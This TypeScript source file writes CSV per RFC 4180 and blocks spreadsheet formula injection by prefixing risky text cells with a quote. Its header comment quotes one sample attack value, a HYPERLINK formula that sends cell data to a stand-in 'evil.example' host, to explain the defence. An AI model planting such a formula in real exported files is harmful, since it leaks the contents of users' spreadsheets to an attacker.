/**
 * CSV writing (RFC 4180) with spreadsheet formula injection neutralised.
 *
 * A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` as a formula (and a leading
 * tab, carriage return or NUL can smuggle one past a filter), so a business id like
 * `=HYPERLINK("http://evil.example/?"&A1)` would run when the file is opened. Every *text* cell
 * that starts with one of those characters is prefixed with a single quote, which spreadsheets
 * show as a text marker and do not evaluate (OWASP, "CSV Injection":
 * https://owasp.org/www-community/attacks/CSV_Injection; OWASP ASVS 5.0 §1.2.10 names `=`, `+`,
 * `-`, `@`, tab and NUL:
 * https://github.com/OWASP/ASVS/blob/v5.0.0/5.0/en/0x10-V1-Encoding-and-Sanitization.md).
 * Numbers we compute are written as numbers (a negative amount stays `-5`); only strings are
 * neutralised.
 * Quoting: a cell containing `,`, `"`, CR or LF is wrapped in double quotes with quotes doubled;
 * records end with CRLF (https://www.rfc-editor.org/rfc/rfc4180).
 */

/** A CSV cell value: text is neutralised, numbers and booleans are written as they are. */
export type CsvValue = string | number | boolean | null | undefined;

/** Characters that make a spreadsheet read a text cell as a formula. */
const FORMULA_START = /^[=+\-@\t\r\0]/;

/**
 * One cell: neutralised (text starting with `=`, `+`, `-`, `@`, tab, CR or NUL gets a leading `'`) and
 * quoted when needed. `null`/`undefined` is an empty cell; non-finite numbers are empty too.
 */
export function csvCell(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  if (typeof value === 'boolean') return value ? 'true' : 'false';
  const text = FORMULA_START.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One record (a line, ending with CRLF). */
export function csvRow(cells: readonly CsvValue[]): string {
  return `${cells.map(csvCell).join(',')}\r\n`;
}

/** A whole CSV document: the header, then one record per row. */
export function toCsv(header: readonly string[], rows: Iterable<readonly CsvValue[]>): string {
  let out = csvRow(header);
  for (const r of rows) out += csvRow(r);
  return out;
}
